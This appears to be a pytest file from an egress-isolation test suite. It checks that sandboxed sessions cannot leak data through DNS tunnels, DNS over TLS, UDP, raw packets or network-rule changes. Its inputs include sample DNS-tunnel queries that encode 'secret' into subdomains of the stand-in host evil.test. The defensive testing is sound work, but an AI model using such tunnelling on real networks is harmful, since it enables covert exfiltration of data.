"""Other ways than TCP: DNS tunnels, datagrams, packets written by hand, and the network's own tables."""

import sys
from collections.abc import Callable

import pytest
from tests.egress.attack import PROBE, Attack, Inside
from tests.egress.internet import (
    PUBLIC,
    PUBLIC_IPV6,
    Internet,
)
from tests.waiting import until

pytestmark = [pytest.mark.isolation, pytest.mark.claim("network-datagrams")]


@pytest.mark.parametrize("resolver", ["127.0.0.1", "9.9.9.9", "93.184.216.34"])
def test_questions_carry_nothing_out(
    net: Internet, inside: Callable[..., Inside], open_one: Inside, resolver: str
) -> None:
    """A DNS tunnel, to whichever resolver. The control is that only allowed names are ever asked for outside."""
    ruled = inside(mode="rules", allow=["allowed.test"])
    net.asked()
    assert ruled.try_out("tunnel", resolver, 53, "evil.test").startswith("nothing")
    assert ruled.try_out("tunnel", resolver, 53, "allowed.test").startswith("nothing")
    assert ruled.try_out("dns_over_tcp", resolver, 53, "A:c2VjcmV0.evil.test") == "code 3, 0 answers"
    assert net.asked() == []
    open_one.try_out("dns", resolver, 53, f"A:c2VjcmV0-{resolver}.evil.test")
    assert f"c2vjcmv0-{resolver}.evil.test" in net.asked(), "an open session may ask"


@pytest.mark.parametrize("host", ["9.9.9.9", "1.1.1.1"])
@pytest.mark.parametrize("port", [853, 443])
def test_resolvers_over_tls_are_only_open_to_open_sessions(
    inside: Callable[..., Inside], open_one: Inside, host: str, port: int
) -> None:
    attack = Attack("tls", host, port, "resolver.test")
    assert inside(mode="rules", allow=["allowed.test"]).make(attack).startswith("nothing")
    assert open_one.make(attack).startswith("hello")


@pytest.mark.parametrize("host", [PUBLIC, PUBLIC_IPV6])
def test_udp_is_refused_at_once(net: Internet, open_one: Inside, host: str) -> None:
    """QUIC falls back to TCP without waiting. The control is the namespace: the machine's own datagrams come out."""
    net.heard()
    assert open_one.try_out("udp", host, 443) in ("nothing: ConnectionRefusedError", "nothing: OSError")
    assert net.heard() == []
    if host == PUBLIC:
        assert net.on_machine(sys.executable, "-", "udp", host, "443", given=PROBE) == "hello hello\n"
        assert net.heard() == ["hello"]


def test_packets_written_by_hand_stay_inside(net: Internet, open_one: Inside) -> None:
    """The control is the namespace, which has no way out: the machine's own packets come through."""
    net.heard()
    assert open_one.try_out("raw", PUBLIC, 443, user="root") == "sent"
    assert open_one.try_out("raw", PUBLIC, 443).startswith("nothing")
    assert net.heard() == []
    assert net.on_machine(sys.executable, "-", "raw", PUBLIC, "443", given=PROBE) == "sent\n"
    came: list[str] = []
    until(lambda: came.extend(net.heard()) or len(came) >= 10, "the machine's packets come out")
    assert came == ["hello"] * 10


def test_nobody_inside_changes_the_network(open_one: Inside) -> None:
    assert open_one.try_out("interfaces", "", 0, user="root") == "lo"
    assert open_one.try_out("packets", "lo", 0, user="root").startswith("nothing")
    assert open_one.try_out("rules", "", 0, user="root").startswith("nothing")
    assert open_one.try_out("tcp", "10.0.0.1", 80, user="root").startswith("nothing")
